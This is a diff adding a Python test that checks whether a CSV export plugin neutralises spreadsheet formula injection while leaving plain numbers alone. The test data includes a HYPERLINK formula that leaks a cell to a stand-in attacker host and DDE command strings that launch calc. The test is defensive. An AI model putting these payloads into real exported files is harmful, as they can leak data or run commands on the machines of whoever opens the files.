@@ -223,6 +223,43 @@ def test_csv_concurrent_appends_write_one_header_and_whole_rows(host: PluginHost
     assert all(r[4] == "s" * 5000 + r[1].split("-")[1] for r in rows[1:])
 
 
+def test_csv_neutralises_formulas_but_keeps_numbers(host: PluginHost, tmp_path: Path) -> None:
+    ctx = make_ctx(tmp_path)
+    link = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
+    outputs = {
+        "link": link,
+        "plus": "+1+cmd|' /C calc'!A0",
+        "minus": "-2+3",
+        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "tab": "\t=1+1",
+        "cr": "\r=1+1",
+        "number": -3.5,
+        "integer": -7,
+        "number_text": "-3.5",
+        "plain": "a = b",
+        "flag": True,
+        "listed": ["=1+1"],
+        f"={'name'}": "column",  # an output name from the server heads a column too
+    }
+    path = write_csv(host, make_result(outputs=outputs), {"path": "f.csv"}, ctx)
+    header, row = read_rows(path)
+    cells = dict(zip(header, row))
+    assert header[-1] == "'=name"
+    assert cells["link"] == "'" + link
+    assert [cells[k] for k in ("plus", "minus", "at", "tab", "cr")] == [
+        "'" + outputs[k] for k in ("plus", "minus", "at", "tab", "cr")
+    ]
+    assert (cells["number"], cells["integer"], cells["number_text"]) == ("-3.5", "-7", "'-3.5")
+    assert (cells["plain"], cells["flag"], cells["listed"]) == ("a = b", "true", '["=1+1"]')
+    # The quoted header still names its column: a second job lines up, a redelivery is not doubled.
+    write_csv(host, make_result(job_id="job-2", outputs=outputs), {"path": "f.csv"}, ctx)
+    again = make_ctx(tmp_path)
+    again.redelivery = True
+    write_csv(host, make_result(job_id="job-2", outputs=outputs), {"path": "f.csv"}, again)
+    rows = read_rows(path)
+    assert len(rows) == 3 and rows[2][-1] == "column"
+
+
 def test_csv_masks_secrets(host: PluginHost, tmp_path: Path) -> None:
     redact.register("csv-secret-value-42")
     path = write_csv(host, make_result(outputs={"echo": "csv-secret-value-42"}), {"path": "s.csv"}, make_ctx(tmp_path))
